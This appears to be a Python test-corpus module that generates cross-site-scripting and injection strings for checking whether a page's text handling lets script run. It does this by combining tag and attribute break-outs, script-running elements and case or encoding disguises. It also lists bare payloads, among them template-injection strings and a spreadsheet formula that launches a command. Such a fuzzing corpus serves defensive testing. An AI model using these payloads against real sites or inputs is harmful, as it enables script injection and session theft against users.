"""Strings that try to become script, for every text that a page may show: ways in × ways to run × disguises.

Each calls `ran()` if it succeeds, carries `x-ran` where it becomes an element or an attribute, and is no longer than
a short text field holds.
"""

from itertools import product

# What opens: plain, out of an attribute, out of a script, a style, a title, a text area, a comment, a template.
WAYS_IN = ("", '">', "'>", "`>", "</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</svg>", "\"'></a>")
ELEMENTS = (
    "<script>ran()</script>",
    "<script x-ran>ran()//",
    "<img src=x onerror=ran() x-ran>",
    "<svg onload=ran() x-ran>",
    "<svg/onload=ran()//",
    "<body onload=ran() x-ran>",
    "<iframe src=javascript:ran() x-ran>",
    "<iframe srcdoc='<script>parent.ran()</script>'>",
    "<input autofocus onfocus=ran() x-ran>",
    "<details open ontoggle=ran() x-ran>",
    "<video><source onerror=ran() x-ran>",
    "<a href=javascript:ran() x-ran>x</a>",
    "<math href=javascript:ran()>x</math>",
    "<object data=javascript:ran() x-ran>",
    "<embed src=javascript:ran() x-ran>",
    "<form><button formaction=javascript:ran()>",
    "<base href=//x.example x-ran>",
    "<meta http-equiv=refresh content=0;javascript:ran()>",
    "<link rel=stylesheet href=//x.example/a x-ran>",
    "<style>@import'//x.example/a';</style>",
    "<marquee onstart=ran() x-ran>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x>",
    "<template><script>ran()</script></template>",
    "<!--><img src=x onerror=ran() x-ran>-->",
    "<xss id=x tabindex=1 onfocus=ran() x-ran>",
    "<select><option></select><img src=x onerror=ran()>",
)
DISGUISES = (
    lambda text: text,
    lambda text: text.replace("script", "sCrIpT").replace("onerror", "oNeRrOr"),
    lambda text: text.replace("</", "<\\/"),
    lambda text: text.replace(" ", "\t", 1),
)
# Out of an attribute, a string of a script, an address, a template, a cell of a sheet: no element of their own.
BARE = (
    '" onmouseover=ran() x-ran="',
    "' onmouseover=ran() x-ran='",
    '" autofocus onfocus=ran() x-ran="',
    "` onmouseover=ran() x-ran=`",
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "'-ran()-'",
    '"-ran()-"',
    "\\'-ran()//",
    "${ran()}",
    "{{constructor.constructor('ran()')()}}",
    "{{7*7}}{% debug %}",
    "\u2028ran()\u2029",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=ran()\\u003e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "expression(ran())",
    "=cmd|' /C calc'!A0",
    "<<script>ran()//<</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "\ufeff<script>ran()</script>",
    "\u202e<script>ran()</script>",
)


def strings() -> list[str]:
    """All of them, in an order that mixes the kinds; the same in every run."""
    made = [disguise(way + element) for disguise, element, way in product(DISGUISES, ELEMENTS, WAYS_IN)]
    found = list(dict.fromkeys([*BARE, *made]))
    return [found[place * 7_919 % len(found)] for place in range(len(found))]
